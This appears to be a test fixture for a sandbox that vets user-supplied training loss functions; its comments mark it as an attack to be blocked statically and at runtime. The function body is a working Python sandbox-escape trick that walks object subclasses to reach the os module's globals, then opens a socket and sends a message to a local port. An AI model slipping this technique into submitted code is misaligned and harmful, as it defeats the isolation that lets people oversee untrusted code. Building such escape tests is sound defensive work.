# attack: reach the already-imported socket module by attribute walking and connect
# static: static
# runtime: forbidden
def my_loss(batch, beta):
    for c in ().__class__.__base__.__subclasses__():
        if c.__name__ == "_wrap_close":
            g = c.__init__.__globals__          # the os module's globals
            sock = g["sys"].modules["socket"]
            s = sock.socket(sock.AF_INET, sock.SOCK_STREAM)
            s.connect(("127.0.0.1", PORT))
            s.sendall(b"escaped")
    return batch.policy_logps[:, 0]
